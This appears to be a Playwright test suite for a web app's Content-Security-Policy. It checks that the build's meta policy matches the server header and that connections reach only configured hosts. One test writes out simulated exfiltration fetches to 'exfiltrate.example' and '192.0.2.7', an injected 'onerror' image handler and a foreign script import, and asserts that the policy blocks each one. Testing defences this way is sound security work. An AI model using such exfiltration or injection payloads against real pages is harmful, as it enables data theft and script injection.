// The page's Content-Security-Policy, in Chromium. The build's <meta> policy equals the
// static server's header and the build has no inline script; a tour of the app (gallery, a
// run playing with its message animation, the editor and its graph, a sweep in the worker,
// the paper card, history, runs, about, the Models & keys page with a profile saved and its
// key sealed, an HTML export) raises no `securitypolicyviolation` and no CSP console error;
// fetches to hosts the user did not configure are blocked by the narrowed connect-src
// (the header alone would allow any https host), as are inline handlers and foreign
// scripts; and a profile (or a model download) on a new https host is unreachable until it
// is saved, after which the page reloads and reaches it.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import https from 'node:https';
import os from 'node:os';
import path from 'node:path';
import { execFileSync } from 'node:child_process';
import { launch, openApp, screenshot, DIST } from './harness.mjs';
import { freePort, testKey } from './llm-helpers.mjs';
import { CONTENT_SECURITY_POLICY } from '../../scripts/static-server.mjs';

const FAR_HOST = 'api.council.test';
let env;
before(async () => {
  // A name that is not loopback for CSP but resolves to it, and a self-signed certificate
  // for it: a stand-in for a remote https API the test can run.
  env = await launch({ args: [`--host-resolver-rules=MAP ${FAR_HOST} 127.0.0.1`, '--ignore-certificate-errors'] });
});
after(async () => { await env?.close(); });

// Records violations in every frame before any page script runs.
const TRAP = () => {
  window.__csp = [];
  document.addEventListener('securitypolicyviolation', e => window.__csp.push(`${e.effectiveDirective} ${e.blockedURI}`));
};

async function trappedPage(context = null) {
  const page = await env.newPage({ context });
  await page.addInitScript(TRAP);
  page.csp = [];
  page.on('console', m => { if (/Content Security Policy|Content-Security-Policy/i.test(m.text())) page.csp.push(m.text()); });
  return page;
}

async function violations(page) {
  return [...await page.evaluate(() => window.__csp || []), ...page.csp];
}

test('the build carries the same policy as the server, and no inline script or style', () => {
  const html = fs.readFileSync(path.join(DIST, 'index.html'), 'utf8');
  const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html);
  assert.ok(meta, 'index.html has a CSP meta tag');
  assert.equal(meta[1], CONTENT_SECURITY_POLICY);
  assert.ok(html.indexOf(meta[0]) < html.indexOf('<script'), 'the policy comes before any script');
  for (const m of html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)) {
    assert.match(m[1], /\bsrc="/, `every script is a file: <script${m[1]}>`);
    assert.equal(m[2].trim(), '', 'no inline script body');
  }
  assert.doesNotMatch(html, /<style\b|\sstyle="|\son[a-z]+="/i, 'no inline style or handler');
  for (const d of ["script-src 'self' 'wasm-unsafe-eval'", "style-src 'self'", "worker-src 'self'", "object-src 'none'", "base-uri 'none'"]) {
    assert.ok(CONTENT_SECURITY_POLICY.includes(d), d);
  }
  const sources = CONTENT_SECURITY_POLICY.split(';').flatMap(d => d.trim().split(/\s+/).slice(1));
  for (const loose of ["'unsafe-inline'", "'unsafe-eval'", "'unsafe-hashes'", '*', 'data:', 'blob:', 'http:']) {
    assert.ok(!sources.includes(loose), `nothing loosens it: ${loose}`);
  }
});

test('a tour of the app raises no CSP violation', async () => {
  const context = await env.browser.newContext({ viewport: { width: 1280, height: 900 }, acceptDownloads: true });
  const page = await trappedPage(context);
  await openApp(env, '#/', page);
  await page.waitForSelector('[data-scenario-id]');
  await page.click('[data-scenario-id="debate"]');
  await page.waitForSelector('[data-testid=run-view]');
  // Replay with the message dots flying (positions are CSS properties set through the CSSOM).
  await page.fill('[data-testid=scrub]', '0');
  await page.click('[data-testid=play]');
  await page.waitForFunction(() => /px$/.test(document.querySelector('.flight .dot')?.style.getPropertyValue('--x1') || ''), null, { timeout: 10_000 });
  await page.waitForFunction(() => Number(window.wasmBindings.current_cursor()) > 6, null, { timeout: 10_000 });
  await page.click('[data-testid=play]');
  await page.click('[data-testid=tab-edit]');
  await page.waitForSelector('[data-testid=graph-edit-svg]');
  await page.click('[data-testid=tab-paper]');
  await page.waitForSelector('[data-testid=paper-card] a[href^="https://"]');
  await page.click('[data-testid=tab-sweep]');
  await page.selectOption('[aria-label="First swept parameter"]', 'agents.*.traits.accuracy');
  await page.fill('[data-testid=sweep-x-values]', '0.4:0.8:3');
  await page.fill('[data-testid=sweep-seeds]', '5');
  await page.press('[data-testid=sweep-seeds]', 'Tab');
  await page.click('[data-testid=sweep-start]');
  await page.waitForSelector('[data-testid=sweep-time]', { timeout: 120_000 });
  assert.match(await page.textContent('[data-testid=sweep-time]'), /^15 runs/, 'the sweep worker ran under the policy');
  await page.click('[data-testid=tab-history]');
  await page.click('[data-testid=tab-watch]');
  const [dl] = await Promise.all([page.waitForEvent('download'), page.click('[data-testid=export-html]')]);
  assert.ok(fs.statSync(await dl.path()).size > 1000, 'the HTML export downloaded');
  await page.click('[data-testid=nav-runs]');
  await page.waitForSelector('[data-testid=run-item]');
  await page.click('[data-testid=nav-about]');
  await page.waitForSelector('[data-testid=papers] a');
  await page.click('[data-testid=nav-models]');
  await page.waitForSelector('[data-testid=models-page]');
  const { key } = testKey('council-csp-');
  await page.fill('[data-testid=profile-name]', 'local');
  await page.fill('[data-testid=profile-url]', 'http://127.0.0.1:9/v1');
  await page.fill('[data-testid=profile-key]', key);
  await page.click('[data-testid=profile-save]');
  await page.waitForSelector('[data-testid=profile-row][data-profile=local] [data-testid=profile-key-place][data-place=tab]');
  assert.deepEqual(await violations(page), []);
  assert.deepEqual(page.errors.filter(e => !/Failed to load resource/.test(e)), []);
  await context.close();
});

test('connections go only to configured hosts; inline handlers and foreign scripts are refused', async () => {
  const page = await trappedPage();
  await openApp(env, '#/about', page);
  const sources = await page.evaluate(() => document.querySelector('meta[data-council-connect]')?.content);
  assert.match(sources, /^connect-src 'self' https:\/\/huggingface\.co /, 'the narrowed policy is in place');
  assert.doesNotMatch(sources, /https:(\s|$)/, 'not every https host');
  const tryFetch = url => page.evaluate(async u => { try { await fetch(u); return 'fetched'; } catch (e) { return `refused: ${e.message}`; } }, url);
  // The header allows any https host: only the page's narrowed policy refuses this one.
  assert.match(await tryFetch('https://exfiltrate.example/steal?k=1'), /refused/);
  assert.match(await tryFetch('http://192.0.2.7/steal'), /refused/);
  assert.equal(await tryFetch(`${env.url}/index.html`), 'fetched', 'its own origin is fine');
  const blocked = await page.evaluate(() => window.__csp);
  assert.ok(blocked.includes('connect-src https://exfiltrate.example/steal?k=1') || blocked.some(v => v.startsWith('connect-src https://exfiltrate.example')), JSON.stringify(blocked));
  assert.ok(blocked.some(v => v.startsWith('connect-src http://192.0.2.7')), JSON.stringify(blocked));

  // Script that is not the app's own: an inline handler, a foreign module. (eval is refused
  // by the policy too, but code run through the debugger, as page.evaluate is, is exempt.)
  await page.evaluate(() => { window.__ran = []; document.querySelector('main').insertAdjacentHTML('beforeend', '<img src=x onerror="window.__ran.push(1)">'); });
  const importResult = await page.evaluate(async () => { try { await import('https://exfiltrate.example/x.js'); return 'imported'; } catch (e) { return 'refused'; } });
  await page.waitForTimeout(300);
  assert.deepEqual(await page.evaluate(() => window.__ran), [], 'the inline handler did not run');
  assert.equal(importResult, 'refused');
  const after = await page.evaluate(() => window.__csp);
  assert.ok(after.some(v => v.startsWith('script-src-attr')), `inline handler reported: ${JSON.stringify(after)}`);
  assert.ok(after.some(v => v.startsWith('script-src-elem https://exfiltrate.example')), `foreign module reported: ${JSON.stringify(after)}`);
  await page.context().close();
});

const MODEL_BYTES = Buffer.from('GGUF' + 'x'.repeat(4092));

/** An https server for FAR_HOST with a self-signed certificate, with CORS: GET /v1/models answers a model list, GET /m.gguf 4 KiB. */
async function startFarServer() {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'council-tls-'));
  const keyFile = path.join(dir, 'key.pem');
  const certFile = path.join(dir, 'cert.pem');
  try {
    execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', keyFile, '-out', certFile,
      '-days', '1', '-subj', `/CN=${FAR_HOST}`, '-addext', `subjectAltName=DNS:${FAR_HOST}`], { stdio: 'ignore' });
  } catch (e) {
    throw new Error(`openssl is needed to make a test certificate: ${e.message}`);
  }
  const seen = [];
  const port = await freePort();
  const server = https.createServer({ key: fs.readFileSync(keyFile), cert: fs.readFileSync(certFile) }, (req, res) => {
    const cors = { 'access-control-allow-origin': req.headers.origin || '*', 'access-control-allow-headers': 'authorization,content-type' };
    if (req.method === 'OPTIONS') { res.writeHead(204, cors).end(); return; }
    seen.push(req.url);
    if (req.url === '/m.gguf') {
      res.writeHead(200, { ...cors, 'access-control-expose-headers': 'content-length', 'content-type': 'application/octet-stream', 'content-length': MODEL_BYTES.length }).end(MODEL_BYTES);
      return;
    }
    res.writeHead(200, { ...cors, 'content-type': 'application/json' }).end('{"data":[{"id":"far"}]}');
  });
  await new Promise(r => server.listen(port, '127.0.0.1', r));
  return { origin: `https://${FAR_HOST}:${port}`, seen, close: () => new Promise(r => { server.closeAllConnections?.(); server.close(r); }) };
}

test('a profile on a new https host is refused until saved; saving reloads the page, which then reaches it', async () => {
  const far = await startFarServer();
  try {
    const page = await trappedPage();
    await openApp(env, '#/models', page);
    await page.waitForSelector('[data-testid=models-page]');
    const get = () => page.evaluate(async u => { try { const r = await fetch(u); return `${r.status} ${await r.text()}`; } catch (e) { return `refused: ${e.message}`; } }, `${far.origin}/v1/models`);
    assert.match(await get(), /refused/);
    assert.deepEqual(far.seen, [], 'nothing reached the host before it was configured');
    assert.ok((await page.evaluate(() => window.__csp)).some(v => v.startsWith(`connect-src ${far.origin}`)));

    const { key } = testKey('council-far-');
    await page.fill('[data-testid=profile-name]', 'faraway');
    await page.selectOption('[data-testid=profile-kind]', 'openai');
    await page.fill('[data-testid=profile-url]', `${far.origin}/v1`);
    await page.fill('[data-testid=profile-key]', key);
    await page.fill('[data-testid=profile-model]', 'far');
    await Promise.all([page.waitForEvent('load', { timeout: 30_000 }), page.click('[data-testid=profile-save]')]);
    await page.waitForFunction(() => window.wasmBindings !== undefined && document.querySelector('[data-testid=models-page]'), null, { timeout: 60_000 });
    assert.match(await page.textContent('[data-testid=info-banner]'), /reloaded.*api\.council\.test/);
    const sources = await page.evaluate(() => document.querySelector('meta[data-council-connect]').content);
    assert.ok(sources.split(' ').includes(far.origin), sources);
    assert.match(await get(), /^200 .*"far"/);
    assert.deepEqual(far.seen, ['/v1/models']);
    assert.equal(await page.getAttribute('[data-testid=profile-row][data-profile=faraway] [data-testid=profile-key-place]', 'data-place'), 'tab', 'the key survived the reload (this tab)');
    assert.deepEqual(await page.evaluate(() => window.__csp), [], 'no violation after the reload');
    // A plain-http remote host is refused at once, with the reason.
    await page.fill('[data-testid=profile-name]', 'plain');
    await page.fill('[data-testid=profile-url]', 'http://api.example.com/v1');
    await page.click('[data-testid=profile-save]');
    assert.match(await page.textContent('[data-testid=error-banner]'), /https:\/\//);

    // A model download from a host the page does not list yet: stored, reload, then fetched.
    const far2 = await startFarServer();
    try {
      await page.fill('[data-testid=model-id]', 'far-model');
      await page.fill('[data-testid=model-url]', `${far2.origin}/m.gguf`);
      await Promise.all([page.waitForEvent('load', { timeout: 30_000 }), page.click('[data-testid=model-add]')]);
      await page.waitForSelector('[data-testid=model-row][data-model=far-model][data-state=done]', { timeout: 30_000 });
      assert.match(await page.textContent('[data-testid=info-banner]'), /reloaded|stored/);
      assert.deepEqual(far2.seen, ['/m.gguf'], 'fetched once, after the reload');
      assert.deepEqual(await page.evaluate(() => window.__csp), []);
    } finally {
      await far2.close();
    }
    await page.context().close();
  } finally {
    await far.close();
  }
});
